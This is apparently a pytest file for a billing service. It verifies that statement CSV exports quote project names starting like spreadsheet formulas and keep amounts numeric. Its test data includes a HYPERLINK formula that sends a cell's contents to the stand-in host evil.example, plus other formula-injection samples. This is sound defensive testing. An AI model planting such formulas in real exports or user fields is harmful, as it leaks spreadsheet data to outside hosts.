"""CSV formula injection in statement exports (issue 11, item 11): a user-chosen project name
that starts like a formula is written as text, money stays numeric."""
from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from accounts.services import project_get_or_create
from billing.exports import statement_export_csv, statement_export_json
from billing.models import Statement, StatementLine
from embeddings.models import EmbeddingModel

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tindent",
           "\rreturn"]


@pytest.fixture
def hostile_statement(organization):
    model = EmbeddingModel.objects.create(name="@model", local_path="/none", dimensions=8, max_input_tokens=256)
    statement = Statement.objects.create(organization=organization, period_start=date(2026, 10, 1))
    for i, name in enumerate(HOSTILE):
        project = project_get_or_create(organization=organization, name=name)
        StatementLine.objects.create(
            statement=statement, kind=StatementLine.Kind.ADJUSTMENT if i == 0 else StatementLine.Kind.USAGE,
            usage_period_start=date(2026, 9 if i == 0 else 10, 1), project=project, model=model,
            price_effective_from=date(2026, 1, 1), unit_price=Decimal("0.020000"), num_model_requests=3,
            input_tokens=1000, amount=Decimal("-1.25") if i == 0 else Decimal("0.01"))
    return statement


def test_formula_names_are_quoted_and_numbers_stay_numbers(hostile_statement):
    rows = list(csv.DictReader(io.StringIO(statement_export_csv(hostile_statement), newline="")))
    assert sorted(row["project_name"] for row in rows) == sorted("'" + name for name in HOSTILE)
    assert {row["model"] for row in rows} == {"'@model"}
    credit = next(row for row in rows if row["kind"] == "adjustment")
    assert credit["amount"] == "-1.25"  # a credit stays a negative number, not text
    assert {row["unit_price_per_million_tokens"] for row in rows} == {"0.020000"}
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or cell == "-1.25", (column, cell)
    # JSON is data, not a spreadsheet: names are exported unchanged there.
    names = {line["project_name"] for line in statement_export_json(hostile_statement)["lines"]}
    assert names == set(HOSTILE)
